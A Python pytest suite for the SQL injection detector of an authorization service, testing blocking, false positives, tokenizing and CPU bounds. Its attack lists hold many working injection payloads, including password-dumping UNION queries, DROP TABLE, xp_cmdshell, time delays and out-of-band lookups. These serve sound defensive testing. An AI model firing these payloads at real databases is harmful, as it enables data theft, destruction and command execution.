"""SQL injection detector: context reading, grading, tokenizer, bounds."""
from __future__ import annotations


import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from extauthz.budget import request_cpu
from extauthz.decode import Input
from extauthz.detect import REGISTRY, DetectorSet
from extauthz.detect.sql_parse import SqlContextParser
from extauthz.detect.sql_tokens import (COMMENT, NAME, NUMBER, STRING, VARIABLE, F_VERSIONED,
                                        shape, tokenize)
from extauthz.detect.sqli import analyse
from extauthz.finding import Severity


def blocks(value: str) -> bool:
    v = analyse(value)
    return v is not None and v.severity >= Severity.HIGH


ATTACKS = [
    # quote break-outs
    "' or '1'='1",
    "admin'--",
    "admin' #",
    "1' or 1=1-- -",
    "x') or ('a'='a",
    "\" or \"\"=\"",
    "1' and sleep(5)#",
    "' union select null,null--",
    "-1' union all select username, password from users--",
    "1'; drop table users--",
    "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
    "1' order by 3--",
    "1' and extractvalue(1,concat(0x7e,version()))--",
    "1' and (select * from (select(sleep(5)))a)--",
    "'||(select 'x' from dual)||'",
    "x' waitfor delay '0:0:5'--",
    "1' and 1=(select count(*) from information_schema.tables)--",
    "foo' AND 1=utl_inaddr.get_host_address((select banner from v$version where rownum=1))--",
    "\u2019 or 1=1--",  # typographic quote
    # bare (numeric) context
    "1 or 1=1",
    "1 and 456=678",
    "-1 union select 1,2,3",
    "1; waitfor delay '0:0:5'--",
    "1) and (select 1 from pg_sleep(5))--",
    "1 where 2914=2914 union all select null,null#",
    "1) as x where 4020=4020;select benchmark(5000000,md5(0x41))--",
    "if(now()=sysdate(),sleep(12),0)",
    "1 order by 1#",
    "or 1=1--",
    # evasion
    "1/**/union/**/select/**/1,2",
    "1 /*!50000union*/ /*!50000select*/ 1,2",
    "1'\tor\t1=1#",
    "1'%0aor%0a1=1#".replace("%0a", "\n"),
    "1'or(1)=(1)#",
    "uni/**/on sel/**/ect 1,2,3 from users",
    "1+union+select+1,2,3--",
    "' OR 'a'='a' /*",
    "1 UnIoN SeLeCt 1,2",
    "1 and ascii(substring((select password from users limit 1),1,1))>64",
    "' and updatexml(1,concat(0x7e,(select user())),1)--",
    # dialects
    "1; select pg_sleep(5)--",
    "1' and 1=dbms_pipe.receive_message('a',5)--",
    "'+(select top 1 name from sysobjects)+'",
    "x' or sqlite_version() like '3%'--",
    "starts_with(password,'a')::int",
    "select * from users where id=1",
    "(select username from all_users where rownum=1)",
]

BENIGN = [
    "union was a great select",
    "O'Brien",
    "rock 'n' roll",
    "1-2",
    "2015-01-01",
    "john.doe@example.com",
    "SKU-4711-XL",
    "don't stop believing",
    "it's 5 o'clock",
    "Tom & Jerry",
    "rock and roll",
    "select one",
    "Select a country",
    "Please select all that apply",
    "order by price",
    "I like you",
    "having fun",
    "I sleep well!",
    "Smith (2019)",
    "bob's or alice's",
    "mother or daughter",
    "This is like no other",
    "\"machine learning\" OR \"deep learning\"",
    "He said 'hi' and 'bye'",
    "a=b",
    "x<3",
    "i <3 you",
    "Just in case (abc)",
    "true or false",
    "/doc/org/elasticsearch/action/support/master/Transport.html",
    "Alta Arsenault says she knits 'morning to night, every day.'",
    "A maximum of the likelihood function occurs at the same parameter-value",
    "my name is 'foo'; and I work on CRS.",
    "c/ caridad s/n",
    "passeig torrent 10, 2f",
    "Weitere Bezeichnungen sind Harsle (1319), Crucesignati in Herslo (1475)",
    "It is highly unlikely this is going to be a false positive",
    "from here to there",
    "Drop by later; select what you like",
    "3 > 2 and that's fine",
    # developer prose: option flags, directives, issue numbers, opening quotes, "; use ..."
    "'--dry-run'.",
    '"#include <dirent.h>".',
    "applied patch from #21762",
    "than intmax_t; use the \"j\" printf length modifier instead of",
    'existing file, "F.gz";  if you reply "yes", you\'d lose all of that data.',
    "* Drop function based directive support.  For now, Sphinx only supports class",
    " grant any rights to trademarks, copyrights, patents, trade secrets or",
    "p11tool: use Sleep() in windows",
    "modified test procedure to return 53 when x=y",
    '%s" and "adding mandatory man directories".',
    'not supported" or "Host unreachable" errors while trying to connect',
    'tests/Makefile.am: in output_info, added a "|| true" on a shell command',
    "Move the library back from /usr/lib/ to /lib/, because that's where it",
    "and link is broken",
    "and EXP(a) < EXP(b)",
    "0 and 99",
    "world execute permissions (Issue #21)",
    "from partition_number(), once from regular_fg(), and thus",
    "     work has been modified.\";",
    "",
]


# Families recognised in session 2 (dev split misses): several variants each, with look-alikes.
FAMILY_ATTACKS = [
    # the attacker's own quote glued to the payload: "'1 or 1=1--" (no engine parses "''1 or")
    "'1 or 1=1--", "'1+or+1=1--", "'1 and '123'='123", "'5 or 2>1#",
    # placeholders left in: "? or 1=1 --"
    "? or 1=1 --", "? and 2=2#",
    # textual \x escapes, doubly encoded typographic quotes
    "\\x27\\x20or\\x201=1--", "\\xc3\\xa2\\xc2\\x80\\xc2\\x98 or 3=3 --", "x\\x27 union select 1,2--",
    # IIS lenient percent decoding
    "%1%2%3%%27%20%U%N%I%O%N%20%A%L%L%20%S%E%L%E%C%T%20%1%2C%2",
    "1%1%3%%27%+%A%N%D%+%1%=%1",
    # MySQL "1.e" glue
    "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) = 70 or'1'='2",
    # quantified comparisons and PostgreSQL arrays
    "admin@juice-sh.op' and email = all (select email)--", "x' or id = any (select id from users)--",
    "x' or array[id] is not null--", "x' or email~all(array[email]);analyze--",
    # stacked statements cut off at the end
    ";INSERT INTO table (col) VALUES", "SELECT dDJq WHERE 9896=9896;SELECT (CASE",
    # T-SQL IF on a constant with statement branches
    "IF(7423=7424) SELECT 7423 ELSE DROP FUNCTION xcjl--",
    # comment evasion in a whole SELECT
    "SELECT/*avoid-spaces*/password/**/FROM/**/Members", "SELECT /*!32302 1/0, */ 1 FROM tablename",
    # JSON tests on constants
    "OR '{\"name\":\"asd\"}' ?| array['a','name']", "1 or '{\"a\":1}'::jsonb @> '{}'::jsonb--",
    # server facts computed
    "concat(0x223e3c62723e,version(),0x3c696d67207372633d22)", "23+len(@@servername)-len(@@servername)",
    # WAITFOR DELAY appended to a header; package-qualified sleeps in any statement shape
    "Mozilla/5.0 (X11; Linux x86_64) Safari/537.36-1 waitfor delay '0:0:15' --",
    "1,(begin if (8340=8340) then dbms_lock.sleep(5); else dbms_lock.sleep(0); end if; end;)",
    # a constant comparison used as a number (boolean blind in ORDER BY / arithmetic)
    "(8362=9139)*9139", "(1589=1589)*1", "1*(5=5)",
    # keywords glued to numbers and "@@" as an operator
    "except \tselect.1,2", "1 union select.1,2--", "'{\"a\":[1,2,3]}'::jsonb @@ '$.a[*]'",
    # T-SQL variables before a blank stay variables ("@q " is not the "@@" operator)
    "1);declare @q varchar(99);set @q='\\\\x.example\\a'; exec master..xp_dirtree @q--",
    "declare @s varchar(200) select @s = 0x77616974 exec(@s)",
]

FAMILY_BENIGN = [
    "'90s music or 1980s", "'twas the night before", "'hello' or 'goodbye'", "'n' roll",
    "what? or why?", "? or not", "C:\\xampp\\htdocs", "\\x41 is the letter A",
    "100% sure, 50% off, 20% more", "%s of %d", "file.exe", "v1.e(x)", "1.5e3 meters",
    "in any case (see above)", "all (the rest)", "array of items", "Is it any good? all (of it)",
    "select all from (the list)", "SELECT your size", "if (you can) select one else drop it",
    "Please waitfor the delay", "call me at 10:30", "version (2.1)", "the user (admin)",
    "(2+2=4)*x", "(1=1) * 2 apples", "(a=1)*2", "time.sleep(5) in python", "see t.1col and a.b.c", "x @@ y",
    "Ronda O'donnell, 106, 12?E", "C/ Del Torrent De L'olla, 111 11?D",  # "12?E" is a flat, not a JSON test
]




# Families recognised in session 3.
FAMILY_ATTACKS_3 = [
    # connectives glued to numbers (space-filtered payloads)
    "1or1=1", "1and2>1", "'or1=1--", "admin'or1=1#", "1)or2=2--",
    # the whole value written as SQL literals: concatenation and constant comparisons
    "'a' || 'b'", "'a'||'b'||'c'", "'x'||1", "'aaa'<>'bbb'", "'1' not regexp '2'", "'abc' like 'a%'",
    # the acute accent as a quote, after compatibility normalisation made it " \u0301"
    "1 \u0301 OR  \u03011 \u0301= \u0301x \u0301#;--()",
    # PostgreSQL casts of session facts (the error message leaks them)
    "1+current_user::int", "session_user::int", "x' and current_user::int>0--",
    # Oracle out-of-band / delay package procedures joined to the break-out, argument list cut off
    "'||UTL_HTTP.REQUEST", "||utl_inaddr.get_host_address", "x'||dbms_pipe.receive_message",
    # T-SQL PRINT of a server variable, alone or stacked
    "PRINT @@version", "';print @@servername--", "1; PRINT @@spid",
    # the literal broken out of joined to one the application's quote closes (MSSQL "+" concatenation)
    "x'+'y", "x' + 'y", "'+'", "x'+char(65)+'", "abc'+convert(varchar,1)+'",
]

FAMILY_BENIGN_3 = [
    "3or767o", "4or3554e0a", "84and33l", "M974or5S2", "or5i6or6i686", "1 or more", "10or20 minutes",
    "'hello' or 'goodbye'", "'rock' and 'roll'", "\"><img/src=\">\"onerror=x>", "'1001'='10",
    "'a'", "'a' 'b'", "'it''s'", "current_user", "x::int", "Cafe\u0301 au lait",
    '"new york" || "boston"', '"apples" && "pears"', '"a" = "b"',  # Lucene / code, not SQL literals
    "print this page", "Print @home", "please print @@ signs", "print @@",
    "it's+'s", "Jack's + Jill's", "O'Brien+'s", "6'-0\"", 'abc":"def', "x' 'y",
    "utl_http.request", "how to call utl_http.request from PL/SQL", "dbms_lock.sleep",
]


@pytest.mark.parametrize("value", ATTACKS + FAMILY_ATTACKS + FAMILY_ATTACKS_3)
def test_attacks_block(value: str) -> None:
    assert blocks(value), analyse(value)


@pytest.mark.parametrize("value", BENIGN + FAMILY_BENIGN + FAMILY_BENIGN_3)
def test_benign_pass(value: str) -> None:
    assert not blocks(value), analyse(value)


def test_union_is_critical_and_names_the_context() -> None:
    v = analyse("1' union select 1,2--")
    assert v.severity is Severity.CRITICAL and v.rule == "union"
    assert v.reading.context == "'"


def test_quote_context_needs_the_closing_quote() -> None:
    # A value inside '...' that never closes it cannot leave the literal.
    assert analyse("it''s or 1=1") is None or analyse("it''s or 1=1").reading.context == "bare"


def test_tokenizer_dialect_details() -> None:
    toks = tokenize("/*!50000union*/ select x'41', 0x41, @@version, `t`.c, [dbo].x -- c")
    assert any(t.flags & F_VERSIONED and t.text == "union" for t in toks)
    kinds = [(t.kind, t.text) for t in toks]
    assert (STRING, "41") in kinds and (NUMBER, "0x41") in kinds and (VARIABLE, "@@version") in kinds
    assert toks[-1].kind == COMMENT
    assert (NAME, "dbo") in kinds


def test_tokenizer_splits_number_glued_words_and_keeps_names() -> None:
    assert shape(tokenize("1union select")) == "1US"
    assert shape(tokenize("master..sysdatabases")) == "n"
    assert shape(tokenize("a #> '{a}' # c")) == "nosc"


def test_quote_context_tokens_start_with_the_context_literal() -> None:
    toks = tokenize("abc' or 1=1", "'")
    assert toks[0].kind == STRING and toks[0].text == "abc"
    assert shape(toks) == "s&1o1"


def test_detector_reports_location_and_excerpt() -> None:
    ds = DetectorSet([REGISTRY["sqli"]()])
    from extauthz.request import Request
    findings = ds.scan(Request(), [Input("query", "id", "1' or '1'='1")])
    assert len(findings) == 1
    f = findings[0]
    assert f.cls == "sqli" and f.location == "query:id" and f.rule.startswith("sqli.")
    assert "or" in f.excerpt


def test_detector_redacts_secret_locations() -> None:
    ds = DetectorSet([REGISTRY["sqli"]()])
    from extauthz.request import Request
    findings = ds.scan(Request(), [Input("form", "password", "x' or 1=1--")])
    assert findings and findings[0].excerpt == "[redacted]"


def test_prefilter_skips_plain_values() -> None:
    ds = DetectorSet([REGISTRY["sqli"]()])
    assert ds._prefilter.candidates("hello world 42") == set()
    assert ds._prefilter.candidates("x' --") == {0}


def test_binary_blobs_are_not_read_as_sql() -> None:
    blob = "".join(chr(c) for c in range(0, 32)) * 4 + "' or 1=1--"
    assert analyse(blob) is None


def test_deep_nesting_is_bounded() -> None:
    value = "(" * 5000 + "1" + ")" * 5000 + " or 1=1"
    t0 = request_cpu()
    analyse(value)
    assert request_cpu() - t0 < 0.5


def test_long_hostile_input_is_bounded() -> None:
    value = ("' or 1=1 union select " + "a," * 50) * 200
    t0 = request_cpu()
    assert blocks(value)
    assert request_cpu() - t0 < 0.5


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_tokenizer_and_parser_never_raise(text: str) -> None:
    for quote in (None, "'", '"', "`"):
        toks = tokenize(text, quote)
        assert all(0 <= t.start <= t.end <= len(text) for t in toks)
        SqlContextParser(toks).read("bare" if quote is None else quote, start=0 if quote is None else 1)
    analyse(text)


SQL_ALPHABET = st.sampled_from(["'", '"', "`", "(", ")", " ", "or", "and", "select", "union", "1", "=",
                                "--", "#", "/*", "*/", "/*!", ",", ";", "sleep(", "x", "@@v", "0x1",
                                "case", "when", "end", "in", "[", "]", "{", "}", "::", "||", "\\", "$$"])


@settings(max_examples=300, deadline=None)
@given(st.lists(SQL_ALPHABET, max_size=200))
def test_sql_shaped_noise_never_raises_and_is_fast(parts: list[str]) -> None:
    value = "".join(parts)
    t0 = request_cpu()
    analyse(value)
    assert request_cpu() - t0 < 0.25


def test_statement_end_after_a_quote_cuts_the_query() -> None:
    assert blocks("admin@juice-sh.op';")
    assert not blocks("'foo';'bar';'def'")


def test_nested_query_strings_are_read() -> None:
    v = analyse("https://www.example.com/search?hl=en&q=testing-1 waitfor delay '0:0:15' --")
    assert v is not None and v.rule == "time-delay"


def test_conditional_functions_on_constants() -> None:
    assert blocks("make_set(5679=9769,9769)")
    assert blocks("1,iif(1440=4612,1,1/0)")
    assert not blocks("if(a1=1,yes,no)")  # a spreadsheet formula compares cells, not constants


@pytest.mark.parametrize("value", ["+" * 8192, "-" * 5000 + "1", "not " * 2000 + "1", "(" * 8192, "~!" * 4000,
                                   "a=b&" * 2048, "case when " * 800, "select (" * 1000, "'" * 8192,
                                   "0x" + "41" * 4095, ("0x" + "73" * 8 + " ") * 430, "1or" * 2730, "'a'||" * 1638,
                                   "\"'(),." * 1365, "a=axp_cmdshell+&" * 512, "'xp_cmdshell' " * 585,
                                   "x/**/and" * 1024, "'union " * 1170])
def test_pathological_values_are_bounded(value: str) -> None:
    t0 = request_cpu()
    analyse(value)  # no RecursionError, no runaway
    assert request_cpu() - t0 < 1.0


@pytest.mark.parametrize("unit", ["union select 1 ", "union all select null,", "' union select 1 from t union select 2 from t ",
                                  "union (select 1) ", "intersect select 1 except select 2 "])
def test_set_operation_chains_are_read_flat(unit: str) -> None:
    value = (unit * 1000)[:8192]  # used to hit Python's recursion limit from ~330 repetitions
    v = analyse(value)
    assert v is not None and v.severity == Severity.CRITICAL and v.rule == "union"
    assert "deep-nesting" not in v.reading.names  # a chain is not nesting


@pytest.mark.parametrize("unit", ["(select * from ", "(select ", "exists(select ", "union (select 1 ", "1 in (select ("])
def test_nested_subqueries_past_the_depth_limit_are_a_finding(unit: str) -> None:
    v = analyse((unit * 1000)[:8192])
    assert v is not None and v.rule == "nesting-limit" and v.severity == Severity.HIGH


@pytest.mark.parametrize("unit", ["(", "1 in (", "case when 1 then ", "{fn "])
def test_plain_deep_nesting_is_a_weak_finding(unit: str) -> None:
    v = analyse((unit * 1000)[:8192])
    assert v is not None and v.rule == "nesting-limit" and v.severity == Severity.MEDIUM


def test_nesting_below_the_limit_is_not_a_finding() -> None:
    assert analyse("(" * 10 + "a" + ")" * 10) is None
    assert not blocks("((price + tax) * (1 - discount))")


NESTING_UNITS = st.sampled_from(["(", "select ", "union ", "all ", "1 ", "from ", "where ", "if(", "case when ",
                                 "then ", "exists", "{fn ", "; ", "if ", "in ", "values ", "with x as ", ","])


@settings(max_examples=150, deadline=None)
@given(st.lists(NESTING_UNITS, min_size=1, max_size=6))
def test_repeated_sql_units_never_raise(parts: list[str]) -> None:
    unit = "".join(parts)
    value = (unit * (8192 // len(unit) + 1))[:8192]
    t0 = request_cpu()
    analyse(value)  # no RecursionError whatever nests
    assert request_cpu() - t0 < 0.25


def test_nested_parameters_are_bounded() -> None:
    from extauthz.detect.sqli import nested_parameters
    value = ";a=b" * 2048
    assert sum(len(p) for p in nested_parameters(value)) <= 2 * len(value)


def test_variables_and_the_match_operator_tokenize_apart() -> None:
    assert [t.kind for t in tokenize("declare @q varchar(9)")][:2] == ["S", VARIABLE]
    assert [(t.kind, t.text) for t in tokenize("x @@ y")][1] == ("o", "@@")
    assert [t.kind for t in tokenize("select @@version")] == ["S", VARIABLE]


def test_connectives_glued_to_numbers_split_only_before_digits() -> None:
    assert shape(tokenize("1or1=1")) == "1&1o1"
    assert shape(tokenize("'or2>1")) == "s"  # inside the literal until the context is known
    assert shape(tokenize("x'or2>1", "'")) == "s&1o1"
    assert [t.text for t in tokenize("3or767o")] == ["3", "or767o"]  # a password, not "3 or 767 o"
    assert [t.text for t in tokenize("orange1 or1")] == ["orange1", "or1"]  # not glued to a number or quote


@pytest.mark.parametrize("value", ["1or1=1", "(8362=9139)*9139", "(1589=1589)*1", "2 * ( 5 = 5 )"])
def test_quote_free_shapes_pass_the_prefilter(value: str) -> None:
    from extauthz.request import Request
    ds = DetectorSet([REGISTRY["sqli"]()])
    assert [f.severity for f in ds.scan(Request(), [Input("query", "q", value)])] == [Severity.HIGH]


@pytest.mark.parametrize("value", ["1\"\"(.'.(,(.", ".,))\",'('", "abc'(.,)\").", "42)\"'.,(()"])
def test_injection_tool_error_probes_block(value: str) -> None:
    v = analyse(value)
    assert v is not None and (v.rule, v.severity) == ("tool-probe", Severity.HIGH), v


@pytest.mark.parametrize("value", ["He said \"hello\" (and 'bye')...", "('a','b')\"\"...", "\"'...\"'", "x (\"a\"), ('b')",
                                   "'\"'" * 30])
def test_quotes_in_text_are_not_tool_probes(value: str) -> None:
    v = analyse(value)
    assert v is None or v.rule != "tool-probe", v


@pytest.mark.parametrize("value", [
    "0x77616974666F722064656C61792027303A303A313027",  # waitfor delay '0:0:10'
    "0x770061006900740066006F0072002000640065006C00610079002000270030003A0030003A",  # the same in UTF-16LE
    "1;declare @s varchar(99) set @s=0x77616974666f722064656c61792027303a303a3527 exec(@s)",
])
def test_hex_literals_that_spell_statements_are_read(value: str) -> None:
    from extauthz.request import Request
    ds = DetectorSet([REGISTRY["sqli"]()])
    assert [f.severity for f in ds.scan(Request(), [Input("query", "q", value)])] == [Severity.CRITICAL]


@pytest.mark.parametrize("value", ["0x742d35Cc6634C0532925a3b844Bc454e4438f44e", "0x48656c6c6f20776f726c6421",
                                   "token=0xdeadbeefdeadbeefdeadbeef", "0x" + "41" * 5000])
def test_hex_literals_of_data_or_plain_text_pass(value: str) -> None:
    assert not blocks(value), analyse(value)


# Families recognised in session 4.
SQL_ONLY_ATTACKS = [
    # calls of functions only SQL has, even cut off before their arguments
    "extractvalue(", "ExtractValue(1,", "UpdateXML (", "name_const(", "XMLType(", "BENChmARk(",
    "GROUP_CONCAT (", "concat_ws(", "MAKE_SET(", "uNhEx(", ", FIND_IN_SET('22', Category )",
    "(load_file(", "pg_sleep(", "master..xp_cmdshell('dir')",
    # server procedures, packages, providers and catalogues, called or not
    "xp_cmdshell", "--sp_password", "UTL_HTTP", "OPENROWSET", "information_schema", "pg_catalog",
    "select pg_sleep", "sp_executesql", "provider=MSDASQL;", "sys.dbms_pipe",
]

SQL_ONLY_BENIGN = [
    "see the group_concat docs", "chart.benchmark(3)", "].concat_ws(", "arr.concat(other)",
    "benchmark results", "the xp_cmdshell_docs page", "'xp_cmdshell'", "my_information_schema_notes",
    "concat(a, b)", "version(2)", "round(2.5)", "user (admin)", "Compress (zip)", "run the benchmark (see below)",
]


@pytest.mark.parametrize("value", SQL_ONLY_ATTACKS)
def test_sql_only_names_block(value: str) -> None:
    assert blocks(value), value


@pytest.mark.parametrize("value", SQL_ONLY_BENIGN)
def test_words_that_resemble_sql_only_names_pass(value: str) -> None:
    assert not blocks(value), analyse(value)


def test_sql_only_names_pass_the_prefilter() -> None:
    ds = DetectorSet([REGISTRY["sqli"]()])
    for value in ("xp_cmdshell", "GROUP_CONCAT (", "--sp_password", "except values(1,2)"):
        findings = ds.scan(None, [Input("query", "q", value, (), value)])
        assert any(f.cls == "sqli" for f in findings), value


@pytest.mark.parametrize("value", ["xor 2 <", "xor 'b' >", "xor 99>", "XOR 5-", "xor\t\t5>", "xor 1=1"])
def test_a_value_opening_with_xor_and_a_constant_blocks(value: str) -> None:
    assert blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["xor gate", "xor the bits", "or 88", "and 5 more", "xor", "use xor", "xor 5 bits",
                                   "XOR 2 inputs gate", "xor 'a' string", "xor 0x1F mask"])
def test_xor_in_words_passes(value: str) -> None:
    assert not blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["x'; select username from users", "';select p", '";SELECT P',
                                   "1'; select name, pass from members"])
def test_a_select_right_after_a_quote_and_semicolon_is_stacked(value: str) -> None:
    v = analyse(value)
    assert v is not None and v.severity >= Severity.HIGH and v.rule == "stacked-query", v


@pytest.mark.parametrize("value", ["O'Brien; select your song", "it's 'x'; select one from the menu",
                                   "1; select your size", "x'; select the best option", "Joe's; select"])
def test_a_select_after_prose_with_a_quote_passes(value: str) -> None:
    assert not blocks(value), analyse(value)


def test_a_value_quoted_as_one_literal_is_read_inside() -> None:
    assert blocks('"a"" or 1=1--"') and blocks("'x'' or ''1''=''1'")
    assert not blocks("'cats' or 'dogs'") and not blocks('"say ""hi"" to me"')


def test_nested_form_values_read_plus_as_blank() -> None:
    assert blocks("pay=and+object_type+=+'")
    assert not blocks("pay=rock+and+roll")


@pytest.mark.parametrize("value", ["';copy (select '') to program 'nslookup x'--", "1;copy (select 1) to stdout"])
def test_copy_of_a_query_to_a_program_is_stacked(value: str) -> None:
    assert blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["please waitfor delay time", "we waitfor delay of the train", "waitfor delay time",
                                   "; copy (the text) to clipboard"])
def test_delay_and_copy_words_in_prose_pass(value: str) -> None:
    assert not blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["1 waitfor delay '0:0:5'", "1;waitfor delay @x--", "';waitfor time '23:59'--"])
def test_waitfor_with_a_time_literal_or_variable_blocks(value: str) -> None:
    assert blocks(value), analyse(value)


def test_lone_surrogates_reach_the_sql_only_name_gate() -> None:
    assert blocks("xp_cmdshell \ud83d") and analyse("\ud83d\ude00 \ud83d x") is None


@pytest.mark.parametrize("value", ["nion/*aaa*/select/*aaa*/1,2,3", "1/**/or/**/1", "x/*a*/union/*b*/all"])
def test_keywords_glued_by_comments_block(value: str) -> None:
    v = analyse(value)
    assert v is not None and v.severity >= Severity.HIGH, v


@pytest.mark.parametrize("value", ["x /* a */ select 1", "body{} /* x */ select {color:red}", "if/*c*/(x)/*d*/else",
                                   "int/*x*/main()", "a /*and*/ b", "/**/" * 4])
def test_comments_in_code_or_with_blanks_pass(value: str) -> None:
    assert not blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["@@version", "1+@@version", "@@servername"])
def test_server_variables_block(value: str) -> None:
    assert blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["@@versions", "@version", "@@", "@@spid of user"])
def test_other_at_words_pass(value: str) -> None:
    assert not blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["'or select *", "'OR SELECT *", "x' and select password from users"])
def test_a_bare_select_joined_to_the_break_out_blocks(value: str) -> None:
    assert blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["students' or select few", "'hello' or select one", "it's or select one",
                                   "Joe's or select"])
def test_select_as_a_word_after_a_quote_passes(value: str) -> None:
    assert not blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["123+len(1234)-len(123)", "1-ascii(1)+49", "5+length('abc')"])
def test_numbers_computed_from_text_measures_block(value: str) -> None:
    assert blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["2+sqrt(4)", "3*sin(30)", "len(x)+1", "10 + len(s)", "1 len(3)"])
def test_calculator_and_code_expressions_pass(value: str) -> None:
    assert not blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["BACKUP database master to disks='\\\\\\\\10.0.0.1\\\\x\\\\db.dat'",
                                   "backup database master to disk='c:\\\\x.bak'", "1;backup database master to disk='x'--"])
def test_backup_to_a_device_path_blocks(value: str) -> None:
    assert blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["backup database daily to the cloud", "restore database from backup",
                                   "backup log to disk", "backup database = good idea"])
def test_backup_in_prose_passes(value: str) -> None:
    assert not blocks(value), analyse(value)


def test_a_statement_spelt_in_hex_blocks_even_cut_off() -> None:
    v = analyse("0x730065006c0065006300740020004000400076006500 ...")  # UTF-16LE "select @@ve", then cut
    assert v is not None and v.rule == "hex-statement" and v.severity is Severity.HIGH
    assert not blocks("0x73656c65637420746865206265737420 ...")  # "select the best ": prose spelt in hex


def medium(value: str) -> bool:
    v = analyse(value)
    return v is not None and v.severity is Severity.MEDIUM


@pytest.mark.parametrize("value", ["'alter a", "'UNION A", "\" ALTER A", "' union/", "'select H", "; select", ";drop",
                                   ";update users", "1=1", "11!=1", "1 is not 2"])
def test_suggestive_fragments_are_medium(value: str) -> None:
    assert medium(value), analyse(value)


@pytest.mark.parametrize("value", ["'Union Station'", "'hello", "\"Select\" button", "x=1", "; see below", "'90s",
                                   "2015-01-01", ";) select"])
def test_quotes_and_numbers_in_text_are_not_fragments(value: str) -> None:
    assert analyse(value) is None, analyse(value)


@pytest.mark.parametrize("value", ["CONCAT (", "version(", "char(", "(substring(", "database(\n", "user("])
def test_a_value_that_is_only_a_call_head_is_medium(value: str) -> None:
    assert medium(value), analyse(value)


@pytest.mark.parametrize("value", ["foo(", "round(2)", "call me(", "see abs(", "version (2.1)", "rand(", "COUNT(", "floor ("])
def test_other_call_heads_are_not_fragments(value: str) -> None:
    assert not medium(value) and not blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["12' or 24'", "a 12' or 24' ladder", "6' or 7'", "x' or 1 blah"])
def test_feet_marks_and_words_after_a_number_pass(value: str) -> None:
    assert not blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["x' or 24='24", "' or 1 or '", "admin' or 1", "' or 1#", "test' or 123<", "test'or 0>"])
def test_a_number_joined_to_the_break_out_still_blocks(value: str) -> None:
    assert blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["user's order by date", "child's group by age", "don't limit 10",
                                   "user\u2019s order by date", "DON'T LIMIT 10", "we'll union later; select one",
                                   "Please drop table 5 from the reservation"])
def test_contractions_and_possessives_are_words_not_break_outs(value: str) -> None:
    assert not blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["user's name' or 1=1--", "it's' or '1'='1", "x\u2019 or 1=1--", "admin'--",
                                   "x's' union select 1--", "1' order by 3--"])
def test_a_break_out_after_a_contraction_still_blocks(value: str) -> None:
    assert blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["';print'", "x'; print 'pwned'--", "1;print @x",
                                   "from(select count(*),concat((select (select (SELECT concat(user_name,0x7c,password)"
                                   " FROM ecs_admin_user desc limit"])
def test_print_statements_and_cut_off_catalogue_subqueries_block(value: str) -> None:
    assert blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["Remember; print 'yes' on the form", "Remember; print 'yes'", "print 'hello'", "; print this page",
                                   "see (select all from the list) here"])
def test_print_and_select_in_prose_pass(value: str) -> None:
    assert not blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["DROP sampletable;--", "x'; drop users;--"])
def test_drop_of_a_name_ended_and_commented_blocks(value: str) -> None:
    assert blocks(value), analyse(value)


@pytest.mark.parametrize("value", ["drop it;", "drop by later;--", "Drop me a line --", "drop sampletable"])
def test_drop_in_prose_passes(value: str) -> None:
    assert not blocks(value), analyse(value)


def test_server_names_in_a_url_path_are_medium() -> None:
    ds = DetectorSet([REGISTRY["sqli"]()])
    path = ds.scan(None, [Input("path", "[1]", "Information_schema", (), "Information_schema"),
                          Input("path", "", "/wiki/Sysobjects", (), "/wiki/Sysobjects")])
    query = ds.scan(None, [Input("query", "q", "information_schema", (), "information_schema")])
    assert [f.severity for f in path if f.cls == "sqli"] == [Severity.MEDIUM, Severity.MEDIUM]
    assert [f.severity for f in query if f.cls == "sqli"] == [Severity.HIGH]
    assert analyse("mysql.db") is None  # a file name; the catalogue counts in SQL context only
